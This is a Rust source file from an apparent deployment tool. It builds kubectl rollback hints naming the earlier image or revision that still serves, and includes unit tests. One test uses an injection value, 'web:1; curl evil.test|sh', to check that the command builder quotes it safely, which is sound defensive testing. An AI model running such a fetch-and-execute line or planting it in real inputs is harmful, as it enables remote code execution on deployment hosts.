//! What still serves while an update does not come up.

use commons::printable;
use commons::shell::shell;
use workload::Earlier;

use crate::settings::Settings;

/// That an earlier version still serves, and how to go back to it where one command can: what variables and files were before is
/// not known.
pub fn hint(
    earlier: &Earlier,
    name: &str,
    before: &Settings,
    settings: &Settings,
    here: Option<&str>,
) -> String {
    let same_inputs = before.env == settings.env
        && before.files == settings.files
        && before.secrets == settings.secrets;
    let other_image = Settings {
        image: before.image.clone(),
        ..settings.clone()
    };
    if earlier.image != settings.image && other_image == *before {
        format!(
            "meanwhile {} still serves; to go back to it: `{}`",
            printable::line(&earlier.image),
            shell("kubectl deploy-app")
                .arg(name)
                .then("--image")
                .arg(&earlier.image)
                .option("-n", here)
        )
    } else if same_inputs {
        format!(
            "meanwhile what ran before still serves; to go back to it: `{}`",
            shell("kubectl rollout undo")
                .arg(format!("deployment/{name}"))
                .equals("--to-revision", earlier.revision)
                .option("-n", here)
        )
    } else {
        "meanwhile what ran before still serves".into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_way_back_is_one_that_there_is() {
        let earlier = Earlier {
            revision: 4,
            image: "web:1".into(),
        };
        let settings = crate::settings::tests::example();
        let mut newer = settings.clone();
        newer.image = "web:2".into();
        assert_eq!(
            hint(&earlier, "web", &settings, &newer, Some("a")),
            "meanwhile web:1 still serves; to go back to it: `kubectl deploy-app web --image web:1 -n a`"
        );
        newer.port = Some(9000);
        assert_eq!(
            hint(&earlier, "web", &settings, &newer, None),
            "meanwhile what ran before still serves; to go back to it: `kubectl rollout undo deployment/web --to-revision=4`",
            "the image alone would not go back"
        );
        let hostile = Earlier {
            revision: 4,
            image: "web:1; curl evil.test|sh".into(),
        };
        newer.port = settings.port;
        assert!(
            hint(&hostile, "web", &settings, &newer, None)
                .ends_with("`kubectl deploy-app web --image 'web:1; curl evil.test|sh'`")
        );
        newer.port = Some(9000);
        newer.env.insert("A".into(), "other".into());
        assert_eq!(
            hint(&earlier, "web", &settings, &newer, None),
            "meanwhile what ran before still serves"
        );
    }
}
